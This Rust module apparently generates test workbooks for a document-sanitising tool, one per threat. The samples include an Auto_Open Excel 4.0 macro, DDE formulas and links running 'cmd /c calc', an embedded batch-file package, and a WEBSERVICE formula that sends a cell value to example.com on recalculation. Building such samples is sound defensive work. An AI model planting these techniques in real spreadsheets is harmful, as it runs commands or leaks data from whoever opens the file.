//! SpreadsheetML samples: a small workbook with two sheets and one variant per threat.

use super::media;
use super::package::{ct, esc, ns, office_package, rel, PackageBuilder, XML_DECL};

const WB: &str = "xl/workbook.xml";
const SHEET1: &str = "xl/worksheets/sheet1.xml";

/// A workbook under construction.
pub struct Workbook {
    pub pkg: PackageBuilder,
    /// `(name, relationship id)` of each sheet, in tab order.
    sheets: Vec<(String, String)>,
    /// `(name, formula)` of each defined name.
    pub defined_names: Vec<(String, String)>,
    /// Relationship ids of external links (`externalReferences`).
    pub external_references: Vec<String>,
    strings: Vec<String>,
    string_uses: usize,
}

impl Workbook {
    /// A workbook with styles; `main_ct` is the workbook part's content type.
    pub fn new(main_ct: &'static str, title: &str) -> Self {
        let mut pkg = office_package(title);
        pkg.add_rel("", rel::OFFICE_DOCUMENT, WB);
        pkg.add_part(WB, Some(main_ct), Vec::new()); // written by `into_package`
        pkg.add_part("xl/styles.xml", Some(ct::X_STYLES), styles_xml());
        pkg.add_rel(WB, rel::STYLES, "styles.xml");
        Workbook {
            pkg,
            sheets: Vec::new(),
            defined_names: Vec::new(),
            external_references: Vec::new(),
            strings: Vec::new(),
            string_uses: 0,
        }
    }

    /// A cell holding a shared string.
    pub fn text(&mut self, r: &str, s: &str) -> String {
        let i = match self.strings.iter().position(|x| x == s) {
            Some(i) => i,
            None => {
                self.strings.push(s.to_string());
                self.strings.len() - 1
            }
        };
        self.string_uses += 1;
        format!("<c r=\"{r}\" t=\"s\"><v>{i}</v></c>")
    }

    /// An internal relationship from the workbook part.
    pub fn rel(&mut self, rel_type: &str, target: &str) -> String {
        self.pkg.add_rel(WB, rel_type, target)
    }

    /// Adds a worksheet part `part` (`xl/worksheets/sheetN.xml`) with the given rows
    /// (`sheetData` content) and the elements that follow `pageMargins` (`tail`).
    pub fn add_worksheet(&mut self, name: &str, part: &str, rows: &str, tail: &str) {
        let selected = if self.sheets.is_empty() { " tabSelected=\"1\"" } else { "" };
        let xml = format!(
            "{XML_DECL}<worksheet xmlns=\"{}\" xmlns:r=\"{}\"><sheetViews><sheetView{selected} workbookViewId=\"0\"/></sheetViews>\
<sheetFormatPr defaultRowHeight=\"15\"/><sheetData>{rows}</sheetData>\
<pageMargins left=\"0.7\" right=\"0.7\" top=\"0.75\" bottom=\"0.75\" header=\"0.3\" footer=\"0.3\"/>{tail}</worksheet>",
            ns::SML,
            ns::R
        );
        self.add_sheet(name, part, rel::WORKSHEET, ct::X_WORKSHEET, xml);
    }

    /// Adds any kind of sheet part and its `<sheet>` entry in the workbook.
    pub fn add_sheet(&mut self, name: &str, part: &str, rel_type: &str, content_type: &str, xml: String) {
        self.pkg.add_part(part, Some(content_type), xml);
        let target = part.strip_prefix("xl/").expect("sheet parts live under xl/");
        let id = self.rel(rel_type, target);
        self.sheets.push((name.to_string(), id));
    }

    pub fn into_package(mut self) -> PackageBuilder {
        if !self.strings.is_empty() {
            let mut sst = format!(
                "{XML_DECL}<sst xmlns=\"{}\" count=\"{}\" uniqueCount=\"{}\">",
                ns::SML,
                self.string_uses,
                self.strings.len()
            );
            for s in &self.strings {
                sst.push_str(&format!("<si><t xml:space=\"preserve\">{}</t></si>", esc(s)));
            }
            sst.push_str("</sst>");
            self.pkg.add_part("xl/sharedStrings.xml", Some(ct::X_SHARED_STRINGS), sst);
            self.rel(rel::SHARED_STRINGS, "sharedStrings.xml");
        }
        let sheets: String = self
            .sheets
            .iter()
            .enumerate()
            .map(|(i, (name, id))| format!("<sheet name=\"{}\" sheetId=\"{}\" r:id=\"{id}\"/>", esc(name), i + 1))
            .collect();
        let ext = if self.external_references.is_empty() {
            String::new()
        } else {
            let refs: String =
                self.external_references.iter().map(|id| format!("<externalReference r:id=\"{id}\"/>")).collect();
            format!("<externalReferences>{refs}</externalReferences>")
        };
        let names = if self.defined_names.is_empty() {
            String::new()
        } else {
            let names: String = self
                .defined_names
                .iter()
                .map(|(n, f)| format!("<definedName name=\"{}\">{}</definedName>", esc(n), esc(f)))
                .collect();
            format!("<definedNames>{names}</definedNames>")
        };
        let wb = format!(
            "{XML_DECL}<workbook xmlns=\"{}\" xmlns:r=\"{}\"><bookViews><workbookView xWindow=\"0\" yWindow=\"0\" \
windowWidth=\"19200\" windowHeight=\"10800\"/></bookViews><sheets>{sheets}</sheets>{ext}{names}<calcPr calcId=\"191029\"/></workbook>",
            ns::SML,
            ns::R
        );
        self.pkg.add_part(WB, None, wb);
        self.pkg
    }

    pub fn finish(self) -> Vec<u8> {
        self.into_package().write()
    }
}

fn styles_xml() -> String {
    format!(
        "{XML_DECL}<styleSheet xmlns=\"{}\"><fonts count=\"1\"><font><sz val=\"11\"/><color rgb=\"FF000000\"/>\
<name val=\"Calibri\"/><family val=\"2\"/></font></fonts><fills count=\"2\"><fill><patternFill patternType=\"none\"/></fill>\
<fill><patternFill patternType=\"gray125\"/></fill></fills><borders count=\"1\"><border><left/><right/><top/><bottom/><diagonal/></border></borders>\
<cellStyleXfs count=\"1\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\"/></cellStyleXfs>\
<cellXfs count=\"1\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\"/></cellXfs>\
<cellStyles count=\"1\"><cellStyle name=\"Normal\" xfId=\"0\" builtinId=\"0\"/></cellStyles>\
<dxfs count=\"0\"/><tableStyles count=\"0\"/></styleSheet>",
        ns::SML
    )
}

fn num(r: &str, v: &str) -> String {
    format!("<c r=\"{r}\"><v>{v}</v></c>")
}

fn formula(r: &str, f: &str, cached: &str) -> String {
    format!("<c r=\"{r}\"><f>{}</f><v>{cached}</v></c>", esc(f))
}

fn row(n: u32, cells: &[String]) -> String {
    format!("<row r=\"{n}\">{}</row>", cells.concat())
}

/// The first sheet every sample has: a small table with a SUM.
fn sales_rows(wb: &mut Workbook) -> String {
    let rows = [
        row(1, &[wb.text("A1", "Item"), wb.text("B1", "Amount")]),
        row(2, &[wb.text("A2", "Apples"), num("B2", "10")]),
        row(3, &[wb.text("A3", "Pears"), num("B3", "32")]),
        row(4, &[wb.text("A4", "Total"), formula("B4", "SUM(B2:B3)", "42")]),
    ];
    rows.concat()
}

/// A workbook with the threat samples' common first sheet.
pub fn base(main_ct: &'static str, title: &str) -> Workbook {
    let mut wb = Workbook::new(main_ct, title);
    let rows = sales_rows(&mut wb);
    wb.add_worksheet("Sales", SHEET1, &rows, "");
    wb
}

/// Numbers, shared strings (one in Japanese), a SUM and a formula reading the other sheet.
pub fn benign() -> Vec<u8> {
    let mut wb = Workbook::new(ct::XLSX_MAIN, "Sales figures");
    let mut rows = sales_rows(&mut wb);
    rows.push_str(&row(5, &[wb.text("A5", "合計（税込）"), formula("B5", "B4*1.1", "46.2")]));
    wb.add_worksheet("Sales", SHEET1, &rows, "");
    let rows2 = row(1, &[wb.text("A1", "Twice the total"), formula("B1", "Sales!B4*2", "84")]);
    wb.add_worksheet("Summary", "xl/worksheets/sheet2.xml", &rows2, "");
    wb.finish()
}

/// Adds `xl/vbaProject.bin` to a workbook.
pub fn add_vba(wb: &mut Workbook) {
    wb.pkg.set_default("bin", ct::VBA_PROJECT);
    wb.pkg.add_part("xl/vbaProject.bin", None, media::vba_project("Auto_Open"));
    wb.rel(rel::VBA_PROJECT, "vbaProject.bin");
}

/// A macro-enabled workbook, template or add-in (by `main_ct`) with a VBA project.
pub fn vba(main_ct: &'static str) -> Vec<u8> {
    let mut wb = base(main_ct, "Macro workbook");
    add_vba(&mut wb);
    wb.finish()
}

/// An Excel 4.0 macro sheet run at open by the `_xlnm.Auto_Open` defined name.
pub fn xlm_macro_sheet() -> Vec<u8> {
    let mut wb = base(ct::XLSM_MAIN, "Excel 4.0 macros");
    let xml = format!(
        "{XML_DECL}<xm:macrosheet xmlns=\"{}\" xmlns:r=\"{}\" xmlns:xm=\"{}\"><sheetViews><sheetView workbookViewId=\"0\"/></sheetViews>\
<sheetFormatPr defaultRowHeight=\"15\"/><sheetData>\
<row r=\"1\"><c r=\"A1\" t=\"b\"><f>ALERT(\"mugai sample macro\")</f><v>1</v></c></row>\
<row r=\"2\"><c r=\"A2\" t=\"b\"><f>HALT()</f><v>1</v></c></row></sheetData>\
<pageMargins left=\"0.7\" right=\"0.7\" top=\"0.75\" bottom=\"0.75\" header=\"0.3\" footer=\"0.3\"/></xm:macrosheet>",
        ns::SML,
        ns::R,
        ns::XM
    );
    wb.add_sheet("Macro1", "xl/macrosheets/sheet2.xml", rel::XL_MACROSHEET, ct::X_MACROSHEET, xml);
    wb.defined_names.push(("_xlnm.Auto_Open".into(), "Macro1!$A$1".into()));
    wb.finish()
}

/// A legacy VML drawing with one client-data shape (the placeholder Excel draws for a control
/// or an object); `image` is the id of the drawing's relationship to a preview picture.
fn vml_drawing(object_type: &str, image: Option<&str>) -> String {
    let fill = match image {
        Some(id) => format!("<v:imagedata o:relid=\"{id}\" o:title=\"\"/>"),
        None => String::new(),
    };
    format!(
        "<xml xmlns:v=\"{}\" xmlns:o=\"{}\" xmlns:x=\"{}\"><o:shapelayout v:ext=\"edit\"><o:idmap v:ext=\"edit\" data=\"1\"/></o:shapelayout>\
<v:shape id=\"_x0000_s1025\" style=\"position:absolute;margin-left:48pt;margin-top:90pt;width:96pt;height:48pt;z-index:1\" \
filled=\"f\" stroked=\"f\">{fill}<x:ClientData ObjectType=\"{object_type}\"><x:SizeWithCells/>\
<x:Anchor>1, 0, 6, 0, 3, 0, 9, 0</x:Anchor><x:CF>Pict</x:CF><x:AutoPict/></x:ClientData></v:shape></xml>",
        ns::V,
        ns::O,
        ns::X
    )
}

/// An ActiveX check box on a sheet (`<controls>`), drawn by a legacy VML shape.
pub fn activex() -> Vec<u8> {
    let mut wb = Workbook::new(ct::XLSX_MAIN, "ActiveX control");
    let rows = sales_rows(&mut wb);
    wb.pkg.set_default("vml", ct::VML);
    wb.pkg.add_part("xl/drawings/vmlDrawing1.vml", None, vml_drawing("Pict", None));
    let vml = wb.pkg.add_rel(SHEET1, rel::VML_DRAWING, "../drawings/vmlDrawing1.vml");
    let ctl = wb.pkg.add_rel(SHEET1, rel::CONTROL, "../activeX/activeX1.xml");
    super::word::add_activex_parts(&mut wb.pkg, "xl/activeX");
    let tail = format!(
        "<legacyDrawing r:id=\"{vml}\"/><controls><control shapeId=\"1025\" r:id=\"{ctl}\" name=\"CheckBox1\"/></controls>"
    );
    wb.add_worksheet("Sales", SHEET1, &rows, &tail);
    wb.finish()
}

/// An embedded OLE package on a sheet (`<oleObjects>`), with its preview picture.
pub fn ole_package() -> Vec<u8> {
    let mut wb = Workbook::new(ct::XLSX_MAIN, "Embedded package");
    let rows = sales_rows(&mut wb);
    wb.pkg.set_default("vml", ct::VML);
    wb.pkg.set_default("png", ct::PNG);
    let drawing = "xl/drawings/vmlDrawing1.vml";
    let img = wb.pkg.add_rel(drawing, rel::IMAGE, "../media/image1.png");
    wb.pkg.add_part(drawing, None, vml_drawing("Pict", Some(&img)));
    wb.pkg.add_part("xl/media/image1.png", None, media::sample_png());
    wb.pkg.add_part(
        "xl/embeddings/oleObject1.bin",
        Some(ct::OLE_OBJECT),
        media::ole_package("readme.bat", b"@echo off\r\necho mugai sample\r\n"),
    );
    let vml = wb.pkg.add_rel(SHEET1, rel::VML_DRAWING, "../drawings/vmlDrawing1.vml");
    let ole = wb.pkg.add_rel(SHEET1, rel::OLE_OBJECT, "../embeddings/oleObject1.bin");
    let tail = format!(
        "<legacyDrawing r:id=\"{vml}\"/><oleObjects><oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"{ole}\"/></oleObjects>"
    );
    wb.add_worksheet("Sales", SHEET1, &rows, &tail);
    wb.finish()
}

/// Adds `xl/externalLinks/externalLink1.xml` with the given content and lists it in the
/// workbook's `externalReferences`. Returns the part name.
fn add_external_link(wb: &mut Workbook, inner: &str) -> String {
    let part = "xl/externalLinks/externalLink1.xml";
    let xml = format!("{XML_DECL}<externalLink xmlns=\"{}\" xmlns:r=\"{}\">{inner}</externalLink>", ns::SML, ns::R);
    wb.pkg.add_part(part, Some(ct::X_EXTERNAL_LINK), xml);
    let id = wb.rel(rel::EXTERNAL_LINK, "externalLinks/externalLink1.xml");
    wb.external_references.push(id);
    part.to_string()
}

/// A DDE link part: `ddeService="cmd"`, `ddeTopic="/c calc"`.
pub fn dde_link() -> Vec<u8> {
    let mut wb = base(ct::XLSX_MAIN, "DDE link");
    add_external_link(
        &mut wb,
        "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"><ddeItems><ddeItem name=\"A0\" advise=\"1\">\
<values rows=\"1\" cols=\"1\"><value t=\"n\"><val>0</val></value></values></ddeItem></ddeItems></ddeLink>",
    );
    wb.finish()
}

/// A cell formula calling DDE (`cmd|'/c calc'!A0`) with a cached value.
pub fn dde_formula() -> Vec<u8> {
    let mut wb = Workbook::new(ct::XLSX_MAIN, "DDE formula");
    let mut rows = sales_rows(&mut wb);
    rows.push_str(&row(5, &[wb.text("A5", "Status"), formula("B5", "cmd|'/c calc'!A0", "0")]));
    wb.add_worksheet("Sales", SHEET1, &rows, "");
    wb.finish()
}

/// A formula that sends a cell's value to a web server whenever the sheet recalculates.
pub fn webservice_formula() -> Vec<u8> {
    let mut wb = Workbook::new(ct::XLSX_MAIN, "Web service formula");
    let mut rows = sales_rows(&mut wb);
    rows.push_str(&row(
        5,
        &[wb.text("A5", "Sync"), formula("B5", "_xlfn.WEBSERVICE(\"https://example.com/?\"&B2)", "0")],
    ));
    wb.add_worksheet("Sales", SHEET1, &rows, "");
    wb.finish()
}

/// A formula reading another workbook (`[1]Sheet1!$A$1`) through an external link.
pub fn external_workbook() -> Vec<u8> {
    let mut wb = Workbook::new(ct::XLSX_MAIN, "Linked workbook");
    let mut rows = sales_rows(&mut wb);
    rows.push_str(&row(5, &[wb.text("A5", "Budget"), formula("B5", "[1]Sheet1!$A$1", "42")]));
    wb.add_worksheet("Sales", SHEET1, &rows, "");
    let part = "xl/externalLinks/externalLink1.xml";
    let path = wb.pkg.add_external_rel(part, rel::EXTERNAL_LINK_PATH, "file:///C:/Finance/budget.xlsx");
    add_external_link(
        &mut wb,
        &format!(
            "<externalBook r:id=\"{path}\"><sheetNames><sheetName val=\"Sheet1\"/></sheetNames>\
<sheetDataSet><sheetData sheetId=\"0\"><row r=\"1\"><cell r=\"A1\"><v>42</v></cell></row></sheetData></sheetDataSet></externalBook>"
        ),
    );
    wb.finish()
}

/// Data connections: a web query and a database query refreshed on open.
pub fn data_connection() -> Vec<u8> {
    let mut wb = base(ct::XLSX_MAIN, "Data connections");
    let xml = format!(
        "{XML_DECL}<connections xmlns=\"{}\">\
<connection id=\"1\" name=\"Prices\" type=\"4\" refreshedVersion=\"6\" background=\"1\" saveData=\"1\" refreshOnLoad=\"1\">\
<webPr sourceData=\"1\" parsePre=\"1\" consecutive=\"1\" xl2000=\"1\" url=\"http://data.example.com/prices.html\"/></connection>\
<connection id=\"2\" name=\"Orders\" type=\"1\" refreshedVersion=\"6\" refreshOnLoad=\"1\" saveData=\"1\">\
<dbPr connection=\"DRIVER=SQL Server;SERVER=db.example.com;DATABASE=orders\" command=\"SELECT id, total FROM orders\"/></connection>\
</connections>",
        ns::SML
    );
    wb.pkg.add_part("xl/connections.xml", Some(ct::X_CONNECTIONS), xml);
    wb.rel(rel::CONNECTIONS, "connections.xml");
    wb.finish()
}

/// Binary workbooks (xlsb, MS-XLSB BIFF12 records), written record by record.
pub mod binary {
    use super::super::package::{office_package, rel};

    const MAIN_CT: &str = "application/vnd.ms-excel.sheet.binary.macroEnabled.main";
    const SHEET_CT: &str = "application/vnd.ms-excel.worksheet";
    const LINK_CT: &str = "application/vnd.ms-excel.externalLink";
    /// Where the linked book lives, as the link part's relationship names it.
    pub const LINKED_PATH: &str = "file:///C:/Finance/budget.xlsb";

    /// One record: a type of one or two 7-bit groups, a size of up to four, the body.
    fn rec(out: &mut Vec<u8>, ty: u32, body: &[u8]) {
        if ty < 0x80 {
            out.push(ty as u8);
        } else {
            out.extend([(ty & 0x7F) as u8 | 0x80, (ty >> 7) as u8]);
        }
        let mut n = body.len();
        loop {
            let b = (n & 0x7F) as u8;
            n >>= 7;
            if n == 0 {
                out.push(b);
                break;
            }
            out.push(b | 0x80);
        }
        out.extend_from_slice(body);
    }

    fn wide(s: &str) -> Vec<u8> {
        let units: Vec<u16> = s.encode_utf16().collect();
        let mut v = (units.len() as u32).to_le_bytes().to_vec();
        units.iter().for_each(|u| v.extend(u.to_le_bytes()));
        v
    }

    fn cell(col: u32) -> Vec<u8> {
        let mut v = col.to_le_bytes().to_vec();
        v.extend([0, 0, 0, 0]);
        v
    }

    /// A formula cell: `ty` (8 string, 9 number, 10 boolean), its cached value, its tokens.
    fn fmla(out: &mut Vec<u8>, ty: u32, col: u32, value: &[u8], rgce: &[u8]) {
        let mut b = cell(col);
        b.extend_from_slice(value);
        b.extend([0, 0]);
        b.extend((rgce.len() as u32).to_le_bytes());
        b.extend_from_slice(rgce);
        b.extend(0u32.to_le_bytes());
        rec(out, ty, &b);
    }

    /// `PtgRef3d` (value class) of row 0, column `col` through `ixti`.
    fn ref3d(ixti: u16, col: u16) -> Vec<u8> {
        let mut v = vec![0x5A];
        v.extend(ixti.to_le_bytes());
        v.extend(0u32.to_le_bytes());
        v.extend((col | 0xC000).to_le_bytes());
        v
    }

    fn row(out: &mut Vec<u8>, r: u32) {
        let mut b = r.to_le_bytes().to_vec();
        b.extend([0, 0, 0, 0, 0x2C, 0x01, 0, 0, 0]);
        b.extend(1u32.to_le_bytes());
        b.extend(0u32.to_le_bytes());
        b.extend(5u32.to_le_bytes());
        rec(out, 0, &b);
    }

    fn label(out: &mut Vec<u8>, col: u32, s: &str) {
        let mut b = cell(col);
        b.extend(wide(s));
        rec(out, 6, &b);
    }

    /// A workbook "Sales" + "Budget" whose first sheet reads the book at [`LINKED_PATH`]
    /// (a number, a string, a boolean, a defined name "Plan" pointing there and a shared
    /// formula) and the second
    /// sheet of itself (an internal 3-D reference, which must stay). `extra` goes into the first
    /// sheet after its cells (records that read the link in other ways).
    fn linked(extra: &[u8]) -> Vec<u8> {
        let mut pkg = office_package("Linked binary workbook");
        pkg.add_rel("", rel::OFFICE_DOCUMENT, "xl/workbook.bin");
        let s1 = pkg.add_rel("xl/workbook.bin", rel::WORKSHEET, "worksheets/sheet1.bin");
        let s2 = pkg.add_rel("xl/workbook.bin", rel::WORKSHEET, "worksheets/sheet2.bin");
        let link = pkg.add_rel("xl/workbook.bin", rel::EXTERNAL_LINK, "externalLinks/externalLink1.bin");
        let path = pkg.add_external_rel("xl/externalLinks/externalLink1.bin", rel::EXTERNAL_LINK_PATH, LINKED_PATH);

        let mut wb = Vec::new();
        rec(&mut wb, 131, &[]); // BrtBeginBook
        rec(&mut wb, 143, &[]); // BrtBeginBundleShs
        for (i, (id, name)) in [(&s1, "Sales"), (&s2, "Budget")].into_iter().enumerate() {
            let mut b = 0u32.to_le_bytes().to_vec();
            b.extend((i as u32 + 1).to_le_bytes());
            b.extend(wide(id));
            b.extend(wide(name));
            rec(&mut wb, 156, &b); // BrtBundleSh
        }
        rec(&mut wb, 144, &[]);
        rec(&mut wb, 353, &[]); // BrtBeginExternals
        rec(&mut wb, 355, &wide(&link)); // BrtSupBookSrc: the other book
        rec(&mut wb, 357, &[]); // BrtSupSelf
        let mut xti = 2u32.to_le_bytes().to_vec();
        for (book, tab) in [(0u32, 0i32), (1, 1)] {
            xti.extend(book.to_le_bytes());
            xti.extend(tab.to_le_bytes());
            xti.extend(tab.to_le_bytes());
        }
        rec(&mut wb, 362, &xti); // BrtExternSheet: ixti 0 the other book, 1 our "Budget"
        rec(&mut wb, 354, &[]);
        let mut name = 0u32.to_le_bytes().to_vec();
        name.push(0);
        name.extend(u32::MAX.to_le_bytes());
        name.extend(wide("Plan"));
        let plan = ref3d(0, 1);
        name.extend((plan.len() as u32).to_le_bytes());
        name.extend(&plan);
        name.extend(0u32.to_le_bytes());
        name.extend(u32::MAX.to_le_bytes()); // no comment
        rec(&mut wb, 39, &name); // BrtName
        rec(&mut wb, 132, &[]); // BrtEndBook
        pkg.add_part("xl/workbook.bin", Some(MAIN_CT), wb);

        let mut sh = Vec::new();
        rec(&mut sh, 129, &[]);
        rec(&mut sh, 145, &[]);
        row(&mut sh, 0);
        label(&mut sh, 0, "Budget total");
        fmla(&mut sh, 9, 1, &42f64.to_le_bytes(), &ref3d(0, 0));
        fmla(&mut sh, 8, 2, &wide("Q3 forecast"), &ref3d(0, 2));
        fmla(&mut sh, 10, 3, &[1], &ref3d(0, 3));
        fmla(&mut sh, 9, 4, &7f64.to_le_bytes(), &[0x43, 1, 0, 0, 0]); // PtgName "Plan"
        fmla(&mut sh, 9, 5, &3f64.to_le_bytes(), &ref3d(1, 0)); // our own "Budget"!A1
                                                                // B2:C2 share one formula reading the other book.
        row(&mut sh, 1);
        let exp = [0x01, 1, 0, 0, 0]; // PtgExp: the block starting on row 2
        fmla(&mut sh, 9, 1, &10f64.to_le_bytes(), &exp);
        let mut shared = Vec::new();
        for v in [1u32, 1, 1, 2] {
            shared.extend(v.to_le_bytes());
        }
        let rgce = ref3d(0, 4);
        shared.extend((rgce.len() as u32).to_le_bytes());
        shared.extend(&rgce);
        shared.extend(0u32.to_le_bytes());
        rec(&mut sh, 427, &shared); // BrtShrFmla
        fmla(&mut sh, 9, 2, &11f64.to_le_bytes(), &exp);
        rec(&mut sh, 146, &[]);
        sh.extend_from_slice(extra);
        rec(&mut sh, 130, &[]);
        pkg.add_part("xl/worksheets/sheet1.bin", Some(SHEET_CT), sh);

        let mut sh2 = Vec::new();
        rec(&mut sh2, 129, &[]);
        rec(&mut sh2, 145, &[]);
        row(&mut sh2, 0);
        let mut b = cell(0);
        b.extend(3f64.to_le_bytes());
        rec(&mut sh2, 5, &b); // BrtCellReal
        rec(&mut sh2, 146, &[]);
        rec(&mut sh2, 130, &[]);
        pkg.add_part("xl/worksheets/sheet2.bin", Some(SHEET_CT), sh2);

        let mut lk = Vec::new();
        let mut sb = 0u16.to_le_bytes().to_vec(); // external workbook
        sb.extend(wide(&path));
        rec(&mut lk, 360, &sb); // BrtBeginSupBook
        pkg.add_part("xl/externalLinks/externalLink1.bin", Some(LINK_CT), lk);
        pkg.write()
    }

    /// Formulas and a defined name reading another workbook: disarmed to cached values.
    pub fn external_workbook() -> Vec<u8> {
        linked(&[])
    }

    /// The same, with an OLE object linked to a document through the other book's entry
    /// (`BrtOleObject` whose link formula is an external name): the object goes too.
    pub fn external_object() -> Vec<u8> {
        let mut objects = Vec::new();
        rec(&mut objects, 638, &[]); // BrtBeginOleObjects
        let mut b = Vec::new();
        b.extend(1u32.to_le_bytes()); // content
        b.extend(1u32.to_le_bytes()); // updated automatically
        b.extend(1025u32.to_le_bytes()); // shape
        b.extend(1u16.to_le_bytes()); // fLinked
        b.extend(u32::MAX.to_le_bytes()); // no ProgID
        let rgce = [0x59, 0, 0, 1, 0, 0, 0]; // PtgNameX: ixti 0, name 1
        b.extend((rgce.len() as u32).to_le_bytes());
        b.extend(rgce);
        b.extend(0u32.to_le_bytes());
        rec(&mut objects, 639, &b); // BrtOleObject
        rec(&mut objects, 640, &[]); // BrtEndOleObjects
        linked(&objects)
    }

    /// The same, with a data validation whose list reads the other book: blocked.
    pub fn external_workbook_validation() -> Vec<u8> {
        let mut dv = Vec::new();
        let mut b = vec![0u8; 12];
        b.extend(1u32.to_le_bytes());
        b.extend([0u8; 16]);
        let list = ref3d(0, 0);
        b.extend((list.len() as u32).to_le_bytes());
        b.extend(&list);
        rec(&mut dv, 64, &b); // BrtDVal
        linked(&dv)
    }
}
